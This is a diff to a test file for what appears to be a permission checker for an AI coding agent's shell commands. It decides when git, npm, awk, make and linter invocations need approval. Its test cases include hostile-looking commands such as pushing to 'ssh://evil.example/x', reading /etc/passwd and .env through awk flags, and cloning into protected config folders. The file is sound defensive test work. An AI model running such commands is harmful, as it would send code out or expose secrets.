@@ -371,7 +371,69 @@ const classes: Readonly<Record<string, Class>> = {
       'git push ssh://evil.example/x',
       'git clone git+ssh://evil.example/x',
     ],
-    plain: ['git ls-remote origin', 'git push origin HEAD:main', 'git fetch other.example:x'],
+    plain: ['git ls-remote origin', 'git push origin HEAD:main', 'git ls-remote other.example:x'],
+  },
+  'commits that are not from a remote': {
+    allow: ['Bash(git:*)', 'WebFetch(domain:good.example)'],
+    asks: [
+      'git pull https://good.example/x main',
+      'git fetch ssh://good.example/x',
+      'git fetch me@good.example:x',
+      'git fetch good.example:x main',
+      'git fetch --multiple origin https://good.example/x',
+      'git fetch https://good.example/x && git merge FETCH_HEAD',
+    ],
+    plain: [
+      'git pull',
+      'git pull origin feature/a',
+      'git fetch --all',
+      'git fetch --multiple origin upstream',
+      'git ls-remote https://good.example/x',
+    ],
+  },
+  'a protected folder that git clone names by itself': {
+    allow: ['Bash(git:*)', 'Write(./**)'],
+    deny: ['Write(./locked/**)'],
+    asks: [
+      'git clone https://good.example/.vscode',
+      'git clone https://good.example/x/.toolglot.git',
+      'git clone https://good.example/x/.husky/.git/',
+      'git clone https://good.example/node_modules//',
+      'git clone me@good.example:.claude',
+      'git clone https://good.example/x node_modules',
+      'git clone --depth=1 https://good.example/x vendor',
+      'git clone https://good.example/locked',
+      'git clone https://good.example:8080/',
+      'git clone "https://good.example/ x"',
+    ],
+    plain: ['git clone https://good.example/x', 'git clone https://good.example/x.git copy'],
+  },
+  'packages that are not in the registry': {
+    allow: ['Bash(npm:*)', 'Bash(pnpm:*)'],
+    deny: ['WebFetch(domain:evil.example)'],
+    asks: [
+      'npm view https://evil.example/x.tgz',
+      'npm info git+ssh://evil.example/x',
+      'pnpm view some/repository',
+      'npm view ./evil',
+    ],
+    plain: ['npm view @types/node versions', 'npm view a@^4.1 dependencies.b', 'npm search a b'],
+  },
+  'words after the program of awk, which are files': {
+    allow: ['Bash(awk:*)', 'Bash(mawk:*)'],
+    deny: ['Read(.env)'],
+    asks: ["awk '{print}' -F .env", "awk '{print}' notes.txt -v .env", 'mawk 1 -F /etc/passwd'],
+    plain: ["awk -F : '{print $1}' notes.txt", "awk -v x=1 '{print x}' notes.txt"],
+  },
+  'files that make writes by its built-in rules': {
+    allow: ['Bash(make:*)', 'Write(./**)'],
+    deny: ['Write(./locked.json)', 'Write(./src/**)'],
+    asks: ['make package.json', 'make -s Makefile', 'make sub/AGENTS.md', 'make locked.json'],
+    plain: ['make', 'make test lint', 'make src'],
+  },
+  'linters that run or show what their files name': {
+    allow: ['Bash(cppcheck:*)', 'Bash(rustfmt:*)', 'Bash(ansible-lint:*)'],
+    asks: ['cppcheck src', 'rustfmt --check a.rs', 'ansible-lint play.yml'],
   },
   'addresses after one that a rule names': {
     allow: [
@@ -464,6 +526,30 @@ describe('files that running commands load', () => {
     'docker-compose.override.yml',
     'buildSrc/src/main/java/A.java',
     'web/project.json',
+    // Make writes a makefile again if it knows how: from a script, or from a version in RCS.
+    'Makefile.sh',
+    'web/gnumakefile.sh',
+    'rules.mk.sh',
+    'RCS/Makefile,v',
+    'configure.ac',
+    // `npm install` builds it, and commands in it run.
+    'binding.gyp',
+    'CTestCustom.ctest',
+    // They name code that is installed, as package-lock.json does.
+    'poetry.lock',
+    'Pipfile.lock',
+    'packages.lock.json',
+    'requirements-dev.txt',
+    // Settings may extend those in any file, and messages about that show its lines.
+    '.yamllint',
+    'ruff.toml',
+    '.checkov.yaml',
+    '.webpack/webpackfile.js',
+    'patches/left-pad@1.3.0.patch',
+    // Programs that run tasks look for them in folders, too.
+    'tasks/__init__.py',
+    'site_scons/site_init.py',
+    'App.xcodeproj/project.pbxproj',
     '.formatter.exs',
     '.markdownlint-cli2.cjs',
   ])('%s asks, unless a setting allows it', async (path) => {
